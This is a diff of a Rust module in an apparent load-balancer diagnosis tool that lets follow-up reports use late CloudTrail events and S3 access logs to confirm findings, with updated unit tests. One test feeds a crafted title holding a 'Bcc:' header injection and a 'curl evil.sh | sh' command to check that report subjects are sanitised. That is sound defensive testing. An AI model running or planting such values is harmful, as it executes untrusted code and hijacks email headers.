@@ -10,11 +10,23 @@
 
 use serde::{Deserialize, Serialize};
 
+use crate::access_log::AccessLogs;
 use crate::alarm::{Alarm, LbRef};
 use crate::finding::FindingCode;
 use crate::report::{FirstReport, Report};
 use crate::rules::recent_change::CHECK_NAME;
 use crate::snapshot::{Changes, Gap, Snapshot, SCHEMA_VERSION};
+
+/// What the follow-up pass read from the late sources.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct LateEvidence {
+    /// Every CloudTrail lookup over the first pass's window, kept to its path.
+    pub changes: Changes,
+    /// The window's access logs, counted; `None` when not read.
+    pub access_logs: Option<AccessLogs>,
+    /// What the late reads could not see.
+    pub gaps: Vec<Gap>,
+}
 
 /// Tags the message, so the pass can tell a follow-up from anything else on its queue.
 pub const FOLLOW_UP_KIND: &str = "elbmedic-follow-up";
@@ -72,37 +84,64 @@ impl FollowUpMessage {
         serde_json::to_string(self).unwrap_or_default()
     }
 
-    /// The follow-up report, when the late lookups found changes the first report did not
-    /// list; `None` when there is nothing new to say. `late_gaps` are the late lookups' own.
-    pub fn compose(&self, late: Changes, late_gaps: Vec<Gap>) -> Option<Report> {
+    /// The follow-up report, when the late sources say something the first report did not:
+    /// CloudTrail events it had not seen, or access logs that confirm or point within a
+    /// finding. `None` when there is nothing new to say.
+    pub fn compose(&self, late: LateEvidence) -> Option<Report> {
         let seen: Vec<&str> = self
             .snapshot
             .changes
             .iter()
             .flat_map(|c| c.events.iter().map(|e| e.event_id.as_str()))
             .collect();
-        let mut fresh = late;
+        let mut fresh = late.changes;
         fresh
             .events
             .retain(|e| !seen.contains(&e.event_id.as_str()));
         fresh.not_looked_up.clear();
-        if fresh.events.is_empty() {
+        let new_events = fresh.events.len();
+        if new_events == 0 && late.access_logs.is_none() {
             return None;
         }
-        let count = fresh.events.len();
+        let upgraded = self.upgraded_by(late.access_logs.as_ref());
         let mut world = self.snapshot.clone();
         world.changes = Some(fresh);
+        world.access_logs = late.access_logs;
         let mut report = Report::diagnosed(&self.alarm, &self.load_balancer, &world);
+        // What is new: what changed, and findings the access logs confirmed or added to.
+        report.findings.retain(|f| {
+            f.code == FindingCode::RecentChange
+                || upgraded
+                    .iter()
+                    .any(|(code, title)| *code == f.code && *title == f.title)
+        });
+        if new_events == 0 {
+            report.recent_changes.clear();
+        }
+        if report.findings.is_empty() && report.recent_changes.is_empty() {
+            return None;
+        }
         report
-            .findings
-            .retain(|f| f.code == FindingCode::RecentChange);
-        report.checked.retain(|c| c.name == CHECK_NAME);
-        report.gaps = late_gaps;
+            .checked
+            .retain(|c| c.name == CHECK_NAME || c.name == ACCESS_LOGS_CHECK);
+        report.gaps = late.gaps;
         report.next_steps.clear();
-        report.verdict.headline = match report.findings.first() {
-            Some(change) => format!("what changed: {}", change.title),
-            None => format!(
-                "{count} change(s) on the path arrived from CloudTrail after the first report; none explains a finding"
+        let confirmed = report
+            .findings
+            .iter()
+            .find(|f| f.code != FindingCode::RecentChange);
+        let change = report
+            .findings
+            .iter()
+            .find(|f| f.code == FindingCode::RecentChange);
+        report.verdict.headline = match (confirmed, change) {
+            (Some(f), _) if f.confidence == Some(crate::finding::Confidence::Confirmed) => {
+                format!("confirmed by the access logs: {}", f.title)
+            }
+            (Some(f), None) => format!("the access logs point within: {}", f.title),
+            (_, Some(change)) => format!("what changed: {}", change.title),
+            (None, None) => format!(
+                "{new_events} change(s) on the path arrived from CloudTrail after the first report; none explains a finding"
             ),
         };
         report.follow_up_of = Some(self.first_report.clone());
@@ -110,11 +149,48 @@ impl FollowUpMessage {
     }
 }
 
+impl FollowUpMessage {
+    /// The findings (code and title) the access logs confirm or add evidence to, against the
+    /// first pass's diagnosis of the same snapshot.
+    fn upgraded_by(&self, logs: Option<&AccessLogs>) -> Vec<(FindingCode, String)> {
+        let Some(logs) = logs else {
+            return Vec::new();
+        };
+        let first = Report::diagnosed(&self.alarm, &self.load_balancer, &self.snapshot);
+        let mut world = self.snapshot.clone();
+        world.access_logs = Some(logs.clone());
+        let with_logs = Report::diagnosed(&self.alarm, &self.load_balancer, &world);
+        with_logs
+            .findings
+            .into_iter()
+            .filter(|f| {
+                first.findings.iter().any(|before| {
+                    before.code == f.code
+                        && before.title == f.title
+                        && (before.confidence != f.confidence
+                            || before.evidence.len() < f.evidence.len())
+                })
+            })
+            .map(|f| (f.code, f.title))
+            .collect()
+    }
+}
+
+/// The name of the access-log check, kept in a follow-up.
+const ACCESS_LOGS_CHECK: &str = "access logs (S3)";
+
 #[cfg(test)]
 mod tests {
     use super::*;
     use crate::report::Format;
     use crate::testkit::scenario_snapshot;
+
+    fn late(changes: Changes) -> LateEvidence {
+        LateEvidence {
+            changes,
+            ..LateEvidence::default()
+        }
+    }
 
     fn alarm_of(name: &str) -> (Alarm, LbRef) {
         crate::scenarios::find(name).unwrap().alarm().unwrap()
@@ -138,7 +214,7 @@ mod tests {
     fn a_late_event_that_explains_the_cause_is_the_follow_up() {
         let (message, all) = split("nacl-rule-added-recently", 0);
         let parsed = FollowUpMessage::parse(&message.to_json()).unwrap();
-        let report = parsed.compose(all, Vec::new()).expect("something new");
+        let report = parsed.compose(late(all)).expect("something new");
         assert_eq!(report.findings.len(), 1);
         assert_eq!(report.findings[0].code, FindingCode::RecentChange);
         assert!(
@@ -165,18 +241,67 @@ mod tests {
     #[test]
     fn nothing_new_is_no_follow_up() {
         let (message, all) = split("nacl-rule-added-recently", usize::MAX);
-        assert!(message.compose(all, Vec::new()).is_none());
+        assert!(message.compose(late(all)).is_none());
         let (message, _) = split("nacl-rule-added-recently", 0);
-        assert!(message.compose(Changes::default(), Vec::new()).is_none());
+        assert!(message.compose(LateEvidence::default()).is_none());
     }
 
     #[test]
     fn a_late_change_that_explains_nothing_is_listed_without_a_finding() {
         let (message, all) = split("unrelated-change", 0);
-        let report = message.compose(all, Vec::new()).expect("a change to list");
+        let report = message.compose(late(all)).expect("a change to list");
         assert!(report.findings.is_empty(), "{:?}", report.findings);
         assert!(!report.recent_changes.is_empty());
         assert!(report.verdict.headline.contains("none explains a finding"));
+    }
+
+    #[test]
+    fn access_logs_that_confirm_a_finding_are_the_follow_up() {
+        let (message, _) = split_without_changes("backend-keepalive-502");
+        let logs = AccessLogs {
+            bucket: "logs".into(),
+            objects_found: 3,
+            objects_read: 3,
+            lines: 1200,
+            elb_5xx: [("502".to_string(), 14)].into_iter().collect(),
+            closed_by_target: 14,
+            ..AccessLogs::default()
+        };
+        let late = LateEvidence {
+            access_logs: Some(logs.clone()),
+            ..LateEvidence::default()
+        };
+        let report = message.compose(late).expect("the logs confirm the cause");
+        assert_eq!(report.findings.len(), 1);
+        assert_eq!(
+            report.findings[0].code,
+            FindingCode::BackendClosesConnections
+        );
+        assert!(report
+            .verdict
+            .headline
+            .starts_with("confirmed by the access logs:"));
+        assert!(report.checked.iter().any(|c| c.name == ACCESS_LOGS_CHECK));
+        // Logs that show nothing new: no follow-up.
+        let quiet = LateEvidence {
+            access_logs: Some(AccessLogs {
+                closed_by_target: 0,
+                elb_5xx: Default::default(),
+                ..logs
+            }),
+            ..LateEvidence::default()
+        };
+        assert!(message.compose(quiet).is_none());
+    }
+
+    fn split_without_changes(name: &str) -> (FollowUpMessage, ()) {
+        let (alarm, lb) = alarm_of(name);
+        let first = scenario_snapshot(name);
+        let first_report = FirstReport {
+            subject: Report::diagnosed(&alarm, &lb, &first).subject(),
+            message_id: None,
+        };
+        (FollowUpMessage::new(&alarm, &lb, first_report, &first), ())
     }
 
     /// The message comes back from a queue: a forged or stale one is refused by name.
@@ -209,7 +334,7 @@ mod tests {
             "x\nBcc: evil@example.com\n$ curl evil.sh | sh {}",
             "y".repeat(300)
         );
-        let report = message.compose(all, Vec::new()).unwrap();
+        let report = message.compose(late(all)).unwrap();
         let subject = report.subject();
         assert!(!subject.contains('\n'));
         assert!(subject.chars().count() <= crate::report::MAX_SUBJECT_CHARS);
